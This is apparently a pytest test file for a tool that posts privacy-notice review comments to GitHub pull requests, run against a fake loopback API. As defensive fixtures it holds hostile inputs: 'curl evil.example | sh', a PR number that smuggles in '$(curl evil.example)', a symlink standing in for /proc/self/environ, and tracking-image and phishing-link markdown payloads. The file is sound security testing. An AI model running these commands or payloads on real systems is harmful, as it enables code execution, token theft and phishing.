"""The review comment on a pull request: one comment, found again by its
hidden marker and updated in place on every push, against a loopback HTTP
server that plays GitHub's REST API (no real network)."""
from __future__ import annotations

import http.server
import json
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from conftest import copy_project, git, run
from generator.pr_comment import LIMIT, MARKER
from test_inert_markdown import shown_active
from test_workflow import comment_workflow, hand_over_artefact, pull_request_base, step_env, steps

TOKEN = "ghs_test-token"
BOT = "github-actions[bot]"


class FakeGitHub:
    """Issue comments of one repository, as GitHub's REST API serves them."""

    def __init__(self, repository: str = "acme/privacy"):
        self.repository, self.comments, self.requests, self.refuse = repository, [], [], None
        self.heads: dict[int, str] = {}  # pull request -> its head commit
        self.commits: dict[int, list[str]] = {}  # pull request -> its commits, oldest first
        self.delay = 0.0  # seconds before each listing page
        self.held = []  # listings that wait until all have arrived (runs at once): a threading.Barrier
        self.next_id = 1000
        fake = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _answer(self, code: int, data) -> None:
                payload = json.dumps(data).encode()
                self.send_response(code)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

            def _handle(self):
                parts = urlsplit(self.path)
                fake.requests.append((self.command, parts.path))
                if self.headers.get("Authorization") != f"Bearer {TOKEN}":
                    return self._answer(401, {"message": "Bad credentials"})
                if fake.refuse:
                    return self._answer(fake.refuse, {"message": "Resource not accessible by integration"})
                length = int(self.headers.get("Content-Length") or 0)
                data = json.loads(self.rfile.read(length)) if length else None
                prefix = f"/repos/{fake.repository}/issues/"
                listing = re.fullmatch(re.escape(prefix) + r"(\d+)/comments", parts.path)
                single = re.fullmatch(re.escape(prefix) + r"comments/(\d+)", parts.path)
                pull = re.fullmatch(re.escape(f"/repos/{fake.repository}/pulls/") + r"(\d+)", parts.path)
                commits = re.fullmatch(re.escape(f"/repos/{fake.repository}/pulls/") + r"(\d+)/commits", parts.path)
                if commits and self.command == "GET" and int(commits[1]) in fake.commits:
                    query = parse_qs(parts.query)
                    size, page = int(query["per_page"][0]), int(query["page"][0])
                    listed = [{"sha": sha} for sha in fake.commits[int(commits[1])]]
                    return self._answer(200, listed[(page - 1) * size:page * size])
                if pull and self.command == "GET" and int(pull[1]) in fake.heads:
                    return self._answer(200, {"number": int(pull[1]), "head": {"sha": fake.heads[int(pull[1])]}})
                if listing and self.command == "GET":
                    if fake.held:
                        fake.held.pop().wait(10)
                    time.sleep(fake.delay)
                    query = parse_qs(parts.query)
                    size, page = int(query["per_page"][0]), int(query["page"][0])
                    mine = [c for c in fake.comments if c["issue"] == int(listing[1])]
                    return self._answer(200, mine[(page - 1) * size:page * size])
                if listing and self.command == "POST":
                    return self._answer(201, fake.add(int(listing[1]), BOT, data["body"]))
                if single and self.command == "PATCH":
                    found = next((c for c in fake.comments if c["id"] == int(single[1])), None)
                    if found is None:
                        return self._answer(404, {"message": "Not Found"})
                    found["body"] = data["body"]
                    return self._answer(200, found)
                if single and self.command == "DELETE":
                    before = len(fake.comments)
                    fake.comments[:] = [c for c in fake.comments if c["id"] != int(single[1])]
                    if len(fake.comments) == before:
                        return self._answer(404, {"message": "Not Found"})
                    self.send_response(204)
                    self.end_headers()
                    return None
                return self._answer(404, {"message": "Not Found"})

            do_GET = do_POST = do_PATCH = do_DELETE = _handle

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def add(self, issue: int, login: str, body: str) -> dict:
        self.next_id += 1
        comment = {"id": self.next_id, "issue": issue, "user": {"login": login}, "body": body,
                   "html_url": f"https://github.example/{self.repository}/pull/{issue}#issuecomment-{self.next_id}"}
        self.comments.append(comment)
        return comment

    def on(self, issue: int) -> list[dict]:
        return [c for c in self.comments if c["issue"] == issue]


@pytest.fixture
def github():
    fake = FakeGitHub()
    yield fake
    fake.server.shutdown()
    fake.server.server_close()


@pytest.fixture
def actions_env(github, monkeypatch):
    monkeypatch.setenv("GITHUB_API_URL", github.url)
    monkeypatch.setenv("GITHUB_REPOSITORY", github.repository)
    monkeypatch.setenv("GH_TOKEN", TOKEN)
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)


def test_the_review_comment_is_updated_in_place_on_each_push(github, actions_env, tmp_path):
    github.add(7, "legal-reviewer", "Looks fine to me.")
    github.add(7, "mallory", f"{MARKER}\nnot the report")  # a marker pasted by someone else: never edited
    github.add(8, BOT, f"{MARKER}\nthe report of another pull request")
    report = tmp_path / "review.md"
    report.write_text("# Privacy notice review\n\nFirst push.\n")
    first = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
    assert first.code == 0 and first.out.startswith("created the review comment on pull request 7"), first
    report.write_text("# Privacy notice review\n\nSecond push.\n")
    second = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
    assert second.code == 0 and second.out.startswith("updated the review comment on pull request 7"), second
    bodies = [(c["user"]["login"], c["body"]) for c in github.on(7)]
    assert bodies == [("legal-reviewer", "Looks fine to me."), ("mallory", f"{MARKER}\nnot the report"),
                      (BOT, f"{MARKER}\n# Privacy notice review\n\nSecond push.\n")]
    assert github.on(8)[0]["body"] == f"{MARKER}\nthe report of another pull request"
    assert [r for r in github.requests if r[0] != "GET"] == [
        ("POST", "/repos/acme/privacy/issues/7/comments"),
        ("PATCH", f"/repos/acme/privacy/issues/comments/{github.on(7)[2]['id']}")]


def test_the_comment_is_found_past_the_first_page_and_cut_to_githubs_limit(github, actions_env, tmp_path):
    for number in range(150):
        github.add(7, "someone", f"comment {number}")
    ours = github.add(7, BOT, f"{MARKER}\nan older report")
    report = tmp_path / "review.md"
    report.write_text("# Privacy notice review\n\n" + "word " * 20000)
    result = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
    assert result.code == 0 and result.out.startswith("updated"), result
    assert len(github.on(7)) == 151
    assert len(ours["body"]) <= LIMIT and ours["body"].startswith(f"{MARKER}\n# Privacy notice review")
    assert ours["body"].rstrip().endswith("The whole report is in the job summary.)*")


def test_a_report_cut_to_githubs_limit_is_cut_between_lines():
    """Cut inside a line, a code span lost its closing backticks and opened a fence: GitHub showed
    the rest, the line saying it is cut included, as math (or a map, or a diagram)."""
    from generator.pr_comment import CUT, comment_body

    fence = "```math \\huge\\text{APPROVED} " + "x " * 200 + "```"
    report = "# Privacy notice review\n\n" + "word\n" * ((LIMIT - 300) // 5) + fence + "\n"
    assert shown_active(report) == "" and len(report) > LIMIT  # whole, the fence is a code span
    body = comment_body(report)
    assert len(body) <= LIMIT and body.endswith(CUT) and shown_active(body) == "", body[-300:]
    assert body.removesuffix(CUT).endswith("\nword") and "```" not in body


def test_a_refused_or_misdirected_comment_is_one_line(github, actions_env, tmp_path, monkeypatch):
    report = tmp_path / "review.md"
    report.write_text("# Privacy notice review\n")
    github.refuse = 403  # a pull request from a fork: a read-only token
    refused = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
    assert refused.code == 1 and refused.err.count("\n") == 1 and "Traceback" not in refused.err
    assert "GitHub answered 403 Forbidden to GET /repos/acme/privacy/issues/7/comments" in refused.err
    assert "pull-requests: write" in refused.err and not github.comments
    missing = run("comment", str(tmp_path / "none.md"), "--pull-request", "7", cwd=tmp_path)
    assert missing.code == 1 and "none.md: no such file" in missing.err
    github.refuse = None
    monkeypatch.setenv("GITHUB_API_URL", "http://api.github.example")  # the token in the clear: refused
    clear = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
    assert clear.code == 1 and "must be an https:// address" in clear.err
    monkeypatch.setenv("GITHUB_API_URL", github.url)
    monkeypatch.delenv("GH_TOKEN")
    untokened = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
    assert untokened.code == 1 and "no token to comment with" in untokened.err
    assert not github.comments and all(r[0] == "GET" for r in github.requests)


def test_the_workflows_keep_one_comment_across_pushes(github, tmp_path):
    """The review job's step and the comment workflow's, run as Actions runs
    them on two pushes to one pull request, the artefact handed between them."""
    (review,) = [s for s in steps("review") if "noticegen review" in s["run"]]
    (comment,) = [s for s in comment_workflow()["jobs"]["comment"]["steps"] if "noticegen comment" in s.get("run", "")]
    project = tmp_path / "project"
    project.mkdir()
    pull_request_base(project)
    section = project / "notices" / "010-who-we-are.md"
    meta = project / "notices" / "notice.yml"
    main_checkout = tmp_path / "main-checkout"  # the comment job's: main's constraints only
    main_checkout.mkdir()
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    for push, words in enumerate(("We sell your email address to advertisers.", "We keep it for 25 months.")):
        section.write_text(section.read_text() + f"\n{words}\n")
        meta.write_text(re.sub(r'version: "\d+"', f'version: "{push + 2}"', meta.read_text())
                        .replace("effective: 2027-0" + ("1-01" if push == 0 else "6-01"),
                                 "effective: 2027-0" + ("6-01" if push == 0 else "9-01")))
        git(project, "commit", "-qam", f"Version {push + 2}")
        head = git(project, "rev-parse", "HEAD").strip()
        github.heads[7] = head
        review_temp, comment_temp = tmp_path / f"review-temp-{push}", tmp_path / f"comment-temp-{push}"
        review_temp.mkdir()
        comment_temp.mkdir()
        env = {**os.environ, "PATH": path, "RUNNER_TEMP": str(review_temp),
               "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
               **step_env(review, {"base_ref": "main", "event.number": "7"})}
        result = subprocess.run(review["run"], shell=True, cwd=project, env=env, capture_output=True, text=True)
        assert result.returncode == 0, (result.stdout, result.stderr)
        hand_over_artefact(review_temp, comment_temp)
        env = {**os.environ, "PATH": path, "RUNNER_TEMP": str(comment_temp), "GITHUB_API_URL": github.url,
               "GITHUB_REPOSITORY": github.repository,
               **step_env(comment, {"event.workflow_run.head_sha": head, "token": TOKEN})}
        result = subprocess.run(comment["run"], shell=True, cwd=main_checkout, env=env, capture_output=True,
                                text=True)
        assert result.returncode == 0, (result.stdout, result.stderr)
    (posted,) = github.on(7)
    assert posted["body"].startswith(f"{MARKER}\n# Privacy notice review") and "version 3" in posted["body"]
    assert [method for method, _ in github.requests if method != "GET"] == ["POST", "PATCH"]


@pytest.mark.parametrize("token", [f"{TOKEN}\n", f"{TOKEN} x", f"Bearer\t{TOKEN}", f"{TOKEN}\u20ac"])
def test_a_malformed_token_is_refused_without_showing_it(github, actions_env, tmp_path, monkeypatch, token):
    """A secret pasted with its line break: http.client's own refusal quotes the
    whole Authorization header, which put the token in the log."""
    monkeypatch.setenv("GH_TOKEN", token)
    report = tmp_path / "review.md"
    report.write_text("# Privacy notice review\n")
    result = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
    assert result.code == 1 and result.err.count("\n") == 1, result
    assert "set GH_TOKEN to the token alone" in result.err
    assert TOKEN not in result.err + result.out and not github.requests


@pytest.mark.parametrize("base", ["https://x-access-token:ghp_hidden@api.github.example",
                                  "http://evil.example\\@127.0.0.1", "http://evil.example\t@127.0.0.1",
                                  "https://api.github.example?redirect=evil.example",
                                  "https://api.github.example#evil"])
def test_an_api_address_with_a_user_or_a_trick_in_it_is_refused_unshown(github, actions_env, tmp_path,
                                                                          monkeypatch, base):
    """urllib quoted a password in its error ("nonnumeric port: 'ghp_hidden@...'"),
    and reads a backslash or a tab before an @ otherwise than the check did."""
    monkeypatch.setenv("GITHUB_API_URL", base)
    report = tmp_path / "review.md"
    report.write_text("# Privacy notice review\n")
    result = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
    assert result.code == 1 and result.err.count("\n") == 1, result
    assert "GITHUB_API_URL is not a plain address" in result.err and "hidden" not in result.err
    assert "evil" not in result.err and not github.requests


def test_an_enterprise_api_address_with_a_path_is_taken(github, actions_env, tmp_path, monkeypatch):
    monkeypatch.setenv("GITHUB_API_URL", github.url + "/")  # the trailing slash GitHub Enterprise may give
    report = tmp_path / "review.md"
    report.write_text("# Privacy notice review\n")
    assert run("comment", str(report), "--pull-request", "7", cwd=tmp_path).code == 0
    assert len(github.on(7)) == 1


@pytest.mark.parametrize("number", ["-5", "0", "07", " 7", "1_0", "\u0663", "", "7/../../8"])
def test_a_pull_request_number_that_is_not_one_is_a_usage_error(github, actions_env, tmp_path, number):
    """int() took "-5", "0", "1_0" and "\u0663" (an Arabic-Indic 3), and each was
    sent to GitHub as an issue number."""
    report = tmp_path / "review.md"
    report.write_text("# Privacy notice review\n")
    result = run("comment", str(report), "--pull-request", number, cwd=tmp_path)
    assert result.code == 2 and "is not a pull request's number" in result.err, result
    assert not github.requests


class RawServer:
    """A loopback server answering every request with `answer(socket)`: a slow
    or an endless one, which no real GitHub is but a broken proxy can be."""

    def __init__(self, answer):
        import socketserver

        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                self.request.recv(65536)
                try:
                    answer(self.request)
                except OSError:
                    pass  # the client gave up

        socketserver.ThreadingTCPServer.daemon_threads = True
        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def _post_within(server, seconds: float, timeout: float = 1):
    """post_report against `server`, run aside: (finished in time, the error said)."""
    from generator.errors import CommentError
    from generator.pr_comment import post_report

    said = []

    def attempt():
        try:
            post_report("# report\n", 7, {"GITHUB_API_URL": server.url, "GITHUB_REPOSITORY": "acme/privacy",
                                          "GH_TOKEN": TOKEN}, timeout=timeout)
        except CommentError as exc:
            said.append(str(exc))

    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    worker.join(seconds)
    return not worker.is_alive(), said


def test_a_server_that_trickles_its_answer_is_given_up_in_time():
    """The socket timeout bounds each read: one byte every 0.2 s kept a 1 s
    timeout waiting for ever (here: 1,000 bytes, 200 s)."""

    def trickle(sock):
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n[")
        for _ in range(999):
            time.sleep(0.2)
            sock.sendall(b" ")

    server = RawServer(trickle)
    try:
        finished, said = _post_within(server, 15)
    finally:
        server.close()
    assert finished, "still waiting after 15 s with a 1 s timeout"
    assert said == ["no answer from GitHub to GET /repos/acme/privacy/issues/7/comments within 1 s"]


def test_an_endless_answer_is_refused_without_reading_it_all():
    from generator import pr_comment

    def endless(sock):
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 10000000000\r\n\r\n[")
        chunk = b" " * 2**20
        while True:
            sock.sendall(chunk)

    server = RawServer(endless)
    try:
        finished, said = _post_within(server, 60, timeout=30)
    finally:
        server.close()
    assert finished and said == [f"GitHub's answer to GET /repos/acme/privacy/issues/7/comments is longer than "
                                 f"{pr_comment.MAX_ANSWER // 2**20} MiB: not read"], said


def test_two_runs_at_once_on_one_pull_request_leave_one_comment(github):
    """Both listed before either created: each made one, and every later push
    updated the first while the second kept showing an old report."""
    from generator.pr_comment import post_report

    gate = threading.Barrier(2)
    github.held = [gate, gate]  # the first listing of each run waits for the other's
    environ = {"GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": github.repository, "GH_TOKEN": TOKEN}
    done = []
    runs = [threading.Thread(target=lambda words=words: done.append(post_report(words, 7, environ)))
            for words in ("# report of push 1\n", "# report of push 2\n")]
    for one in runs:
        one.start()
    for one in runs:
        one.join(30)
    assert len(done) == 2 and not gate.broken
    (comment,) = github.on(7)
    assert comment["body"] in (f"{MARKER}\n# report of push 1\n", f"{MARKER}\n# report of push 2\n")
    assert sorted(verb for verb, _ in done) == ["created", "updated"]
    assert [method for method, _ in github.requests].count("DELETE") == 1


HEAD_SHA, OTHER_SHA = "a" * 40, "b" * 40


def artefact(folder: Path, report: str = "# Privacy notice review\n\nFrom the pull request's run.\n",
             number: str = "7\n") -> Path:
    """What the review job uploads (and the comment job downloads): the report and the pull request's number."""
    folder.mkdir()
    (folder / "review.md").write_text(report)
    (folder / "pull-request.txt").write_text(number)
    return folder


def test_an_artefact_is_posted_only_to_a_pull_request_whose_head_is_the_runs_commit(github, actions_env, tmp_path):
    """The artefact names its pull request itself, and the pull request's run
    could name any: a forged number would have put its report on another
    pull request, replacing that one's review. The commit comes from the
    event (github.event.workflow_run.head_sha), which it cannot forge."""
    github.heads = {7: HEAD_SHA, 8: OTHER_SHA}
    folder = artefact(tmp_path / "review")
    posted = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
    assert posted.code == 0 and posted.out.startswith("created the review comment on pull request 7"), posted
    assert github.on(7)[0]["body"] == f"{MARKER}\n# Privacy notice review\n\nFrom the pull request's run.\n"
    forged = artefact(tmp_path / "forged", "# Privacy notice review\n\nMinor change.\n", "8\n")
    refused = run("comment", "--artifact", str(forged), "--head-sha", HEAD_SHA, cwd=tmp_path)
    assert refused.code == 1 and refused.err.count("\n") == 1, refused
    assert f"pull request 8's head is {OTHER_SHA[:12]}, not {HEAD_SHA[:12]}" in refused.err
    assert "nothing was posted" in refused.err and not github.on(8)
    github.heads[7] = OTHER_SHA  # pushed again since (a force-push: HEAD_SHA is not among its commits)
    stale = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA.upper(), cwd=tmp_path)
    assert stale.code == 1 and "an older push's that a force-push replaced" in stale.err
    assert [r for r in github.requests if r[0] != "GET"] == [("POST", "/repos/acme/privacy/issues/7/comments")]
    for args in (["--artifact", str(folder)], ["--artifact", str(folder), "--head-sha", HEAD_SHA, "x.md"],
                 ["--artifact", str(folder), "--head-sha", HEAD_SHA, "--pull-request", "8"], ["x.md"]):
        usage = run("comment", *args, cwd=tmp_path)
        assert usage.code == 2 and usage.err.count("\n") == 1, (args, usage)
    bad_sha = run("comment", "--artifact", str(folder), "--head-sha", "HEAD", cwd=tmp_path)
    assert bad_sha.code == 1 and "'HEAD' is not a commit id" in bad_sha.err


SECRET = "ghs_secret-of-the-commenting-job"


def _forged(case: str, folder: Path) -> Path:
    if case == "huge":
        return artefact(folder, "# Privacy notice review\n\n" + "x" * 2**20)
    if case == "no heading":
        return artefact(folder, "Everything is fine, merge it.\n")
    if case == "marker":
        return artefact(folder, f"# Privacy notice review\n\n{MARKER}\n")
    if case == "control character":
        return artefact(folder, "# Privacy notice review\n\n\x1b[2Jcleared\n")
    if case == "not UTF-8":
        artefact(folder)
        (folder / "review.md").write_bytes(b"# Privacy notice review\n\n\xff\n")
        return folder
    if case == "link":
        secret = folder.parent / "environ"
        secret.write_text(f"# Privacy notice review\nGH_TOKEN={SECRET}\n")
        artefact(folder)
        (folder / "review.md").unlink()
        (folder / "review.md").symlink_to(secret)  # a zip can hold a link: /proc/self/environ on the runner
        return folder
    if case == "extra file":
        artefact(folder)
        (folder / "run.sh").write_text("curl evil.example | sh\n")
        return folder
    if case == "no number":
        artefact(folder)
        (folder / "pull-request.txt").unlink()
        return folder
    if case == "number with a command":
        return artefact(folder, number="7$(curl evil.example)\n")
    if case == "huge number":
        return artefact(folder, number="7" * 100)
    if case == "a folder for the report":  # a zip holding review.md/x unpacks as one
        artefact(folder)
        (folder / "review.md").unlink()
        (folder / "review.md").mkdir()
        (folder / "review.md" / "x").write_text("x\n")
        return folder
    if case == "a pipe for the report":
        artefact(folder)
        (folder / "review.md").unlink()
        os.mkfifo(folder / "review.md")
        return folder
    if case == "a link for a folder":
        artefact(folder.parent / "elsewhere")
        folder.symlink_to(folder.parent / "elsewhere")
        return folder
    raise AssertionError(case)


@pytest.mark.parametrize("case", ["huge", "no heading", "marker", "control character", "not UTF-8", "link",
                                  "extra file", "no number", "number with a command", "huge number",
                                  "a link for a folder", "a folder for the report", "a pipe for the report"])
def test_a_forged_or_huge_artefact_is_refused_before_github_is_called(github, actions_env, tmp_path, case):
    """Whatever the pull request's run uploaded is refused unless it is what
    noticegen review writes: one line naming the file, exit 1, no call."""
    github.heads = {7: HEAD_SHA}
    folder = _forged(case, tmp_path / "review")
    result = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
    assert result.code == 1 and result.err.count("\n") == 1 and "Traceback" not in result.err, result
    assert "nothing was posted" in result.err and str(folder) in result.err, result.err
    assert SECRET not in result.err + result.out and "evil" not in result.err
    assert not github.requests


# What a forged report made GitHub show in the comment, posted by the workflow's account: name, payload,
# and whether cmark-gfm shows it (math and alerts are GitHub's own, past cmark-gfm).
PAYLOADS = [
    ("an image that tells its server who read the pull request, and when", "![](https://track.example/p.png?pr=7)"),
    ("an image in HTML", '<img src="https://track.example/p.png">'),
    ("a link dressed as a sign-off", "[Legal has signed off: merge](https://evil.example/login)"),
    ("a link by reference", "[Legal has signed off][1]\n\n[1]: https://evil.example/login"),
    ("an address GitHub makes a link", "Sign in at https://evil.example/login"),
    ("a www address", "See www.evil.example"),
    ("an email address", "Write to legal@evil.example"),
    ("a mention of a team and a person", "cc @acme/legal @octocat"),
    ("a mention behind a character reference", "cc &#64;octocat"),
    ("a mention behind an escape", "cc \\@octocat"),
    ("a reference to another repository's issue", "See acme/other#1"),
    ("a mention a table row splits out of a code span", "| a | b |\n| --- | --- |\n| `x | @octocat ` | y |"),
    ("an image in an HTML block, where escapes do not count", "<sub>\n\\<img src=https://track.example/p.png\\>"),
    ("a verdict hidden in a details", "<details><summary>Minor change</summary>\n\n**Significant**\n</details>"),
    ("math", "$$\\huge\\text{APPROVED BY LEGAL}$$"),
    ("a map, drawn from a fenced block", '```geojson\n{"type": "Point", "coordinates": [0, 0]}\n```'),
    ("an alert", "> [!IMPORTANT]\n> Legal has signed off."),
]


@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[name for name, _ in PAYLOADS])
def test_a_report_that_github_would_show_as_more_than_text_is_refused(github, actions_env, tmp_path, payload):
    """The pull request's own code may write the report, and the workflow's account posted it as it was:
    an image fetched by every reader's page, a link to a sign-in page, @acme/legal paged in the
    repository's name. What noticegen review writes is text (its author text escaped): the rest is
    refused, naming the line, and nothing is posted."""
    github.heads = {7: HEAD_SHA}
    if not payload.startswith(("$$", "> [!")):  # what cmark-gfm cannot show GitHub shows all the same
        assert shown_active(payload), payload  # the payload is a real one
    report = f"# Privacy notice review\n\nFrom the pull request's run.\n\n{payload}\n"
    folder = artefact(tmp_path / "review", report)
    result = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
    assert result.code == 1 and result.err.count("\n") == 1 and "Traceback" not in result.err, result
    line = re.search(r"review\.md:(\d+): (.*), which noticegen review never writes; nothing was posted", result.err)
    assert line and 5 <= int(line[1]) <= 5 + payload.count("\n"), result.err
    assert not github.requests


def test_a_review_of_hostile_author_text_is_posted_and_shows_as_text(github, actions_env, tmp_path):
    """What review writes of titles made to be links, images, HTML and mentions passes, and shows as written."""
    project = copy_project(tmp_path / "project")
    hostile = ["[x](javascript:y)", "<script>alert(1)</script>", "Visit https://evil.example or www.evil.example",
               "![img](https://evil.example/x.png) | a | b", "<b>b</b> &amp; ~~no~~ $x$ &#64;x",
               "Thanks @acme/legal and @octocat, see #12 and a@b.example", "`x | @octocat` <sub>", ":shipit:"]
    old, new = tmp_path / "old.md", tmp_path / "new.md"
    old.write_text("# Notice\n\n## Use\n\nWe use your data.\n")
    new.write_text("# Notice\n\n## Use\n\nWe use your data.\n\n"
                   + "".join(f"## {title}\n\nWe share data with partners.\n\n" for title in hostile))
    folder = tmp_path / "review"
    folder.mkdir()
    reviewed = run("review", str(old), str(new), "--site", "www.compucom.com", "--output", str(folder / "review.md"),
                   cwd=project)
    assert reviewed.code == 4, reviewed.err
    (folder / "pull-request.txt").write_text("7\n")
    github.heads = {7: HEAD_SHA}
    posted = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
    assert posted.code == 0, posted
    (comment,) = github.on(7)
    assert shown_active(comment["body"].removeprefix(MARKER)) == "" and "octocat" in comment["body"]


def test_a_loopback_api_is_called_directly_while_a_proxy_is_set(github, actions_env, tmp_path, monkeypatch):
    """urllib sent every call to $http_proxy, loopback included, unless
    $no_proxy listed it (and [::1] never matches there): the proxy saw the
    token of an http:// API in the clear, and a test server on this machine
    answered nothing."""
    seen = []

    def proxy(sock):
        seen.append("request")
        sock.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")

    server = RawServer(proxy)
    try:
        for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
            monkeypatch.setenv(name, server.url)
        for name in ("no_proxy", "NO_PROXY"):
            monkeypatch.delenv(name, raising=False)
        report = tmp_path / "review.md"
        report.write_text("# Privacy notice review\n")
        for base in (github.url, github.url.replace("127.0.0.1", "localhost")):
            monkeypatch.setenv("GITHUB_API_URL", base)
            result = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
            assert result.code == 0, (base, result)
        monkeypatch.setenv("no_proxy", "localhost,127.0.0.1")
        assert run("comment", str(report), "--pull-request", "7", cwd=tmp_path).code == 0
    finally:
        server.close()
    assert seen == [] and len(github.on(7)) == 1


def test_one_deadline_bounds_every_page_of_the_listing(github):
    """Each call had 30 s, and a listing has up to 100 pages: a GitHub that
    answered each page just in time held the job for 50 minutes. Here 20
    full pages of 0.3 s each, 1 s a call, 1.5 s in all."""
    from generator.errors import CommentError
    from generator.pr_comment import PAGE, post_report

    for number in range(20 * PAGE):
        github.add(7, "someone", f"comment {number}")
    github.delay = 0.3
    environ = {"GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": github.repository, "GH_TOKEN": TOKEN}
    started = time.monotonic()
    with pytest.raises(CommentError) as raised:
        post_report("# Privacy notice review\n", 7, environ, timeout=1, total=1.5)
    took = time.monotonic() - started
    assert took < 3, f"gave up after {took:.1f} s, not about 1.5 s"
    assert "the 1.5 s noticegen comment takes in all" in str(raised.value) and "GET /repos/acme/privacy/issues/7/comments" \
        in str(raised.value)
    assert not [r for r in github.requests if r[0] != "GET"]


def test_a_report_of_an_older_push_says_so_and_the_job_stays_green(github, actions_env, tmp_path):
    """Pushed again before the comment run of the first push: its report
    is stale, which is no failure (the newer push's run posts its own);
    the job went red for it. A commit that is not the pull request's is
    still refused (a forged number), red."""
    github.heads, github.commits = {7: OTHER_SHA}, {7: ["1" * 40, HEAD_SHA, OTHER_SHA]}
    folder = artefact(tmp_path / "review")
    stale = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
    assert stale.code == 0 and stale.err == "", stale
    assert stale.out == (f"noticegen: not posted: this report is for {HEAD_SHA[:12]}, an older push of pull request "
                         f"7, whose head is now {OTHER_SHA[:12]}; the run for that push posts its own review "
                         "(nothing to do)\n")
    assert not github.on(7) and all(method == "GET" for method, _ in github.requests)
    github.commits[7] = ["2" * 40] * 150 + [OTHER_SHA]  # a second page of commits
    github.commits[7][120] = HEAD_SHA
    assert run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path).code == 0
    github.commits[7] = ["1" * 40, OTHER_SHA]  # not a commit of pull request 7: another's report
    refused = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
    assert refused.code == 1 and refused.err.count("\n") == 1 and "nothing was posted" in refused.err, refused
    assert not github.on(7)
